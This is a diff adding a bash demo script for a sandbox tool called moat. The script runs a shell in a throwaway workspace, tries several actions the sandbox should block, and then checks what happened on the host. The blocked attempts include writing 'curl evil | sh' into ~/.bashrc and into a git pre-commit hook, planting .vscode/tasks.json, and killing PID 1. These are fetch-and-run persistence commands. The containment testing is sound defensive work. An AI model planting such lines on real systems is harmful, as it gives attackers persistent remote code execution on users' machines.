@@ -1,0 +1,27 @@
+#!/usr/bin/env bash
+# Builds moat and runs one allowed and several blocked actions in a throwaway
+# workspace, then checks on the host what really happened.
+set -euo pipefail
+repo=$(cd "$(dirname "$0")/.." && pwd)
+CGO_ENABLED=0 go build -o "$repo/moat" "$repo/cmd/moat"
+ws=$(mktemp -d /tmp/moat-demo.XXXXXX)
+trap 'rm -rf "$ws"' EXIT
+cd "$ws" && git init -q .
+
+echo "\$ moat run -- sh -c '...'   (in $ws)"
+"$repo/moat" run -- sh -c '
+  echo hello > notes.txt && echo "allowed: wrote notes.txt in the workspace"
+  echo "curl evil | sh" >> ~/.bashrc        || echo "blocked: append to ~/.bashrc"
+  echo "curl evil | sh" > .git/hooks/pre-commit || echo "blocked: plant .git/hooks/pre-commit"
+  mkdir -p .vscode && echo {} > .vscode/tasks.json || echo "blocked: create .vscode/tasks.json"
+  kill -9 1 2>/dev/null; ps -e -o pid=,comm= | sed "s/^/  visible process:/"
+  setsid sleep 600 & echo "started a daemon (pid $!) that must not survive"
+' 2>&1 | sed 's/^/  /'
+echo "exit status: ${PIPESTATUS[0]}"
+echo
+echo "on the host afterwards:"
+echo "  notes.txt:              $(cat "$ws/notes.txt")"
+echo "  ~/.bashrc tail:         $(tail -n1 ~/.bashrc 2>/dev/null || echo '(none)')"
+echo "  .git/hooks/pre-commit:  $([ -e "$ws/.git/hooks/pre-commit" ] && echo PRESENT || echo absent)"
+echo "  .vscode:                $([ -e "$ws/.vscode" ] && echo PRESENT || echo absent)"
+echo "  surviving daemons:      $(pgrep -fc 'sleep 600' || true)"
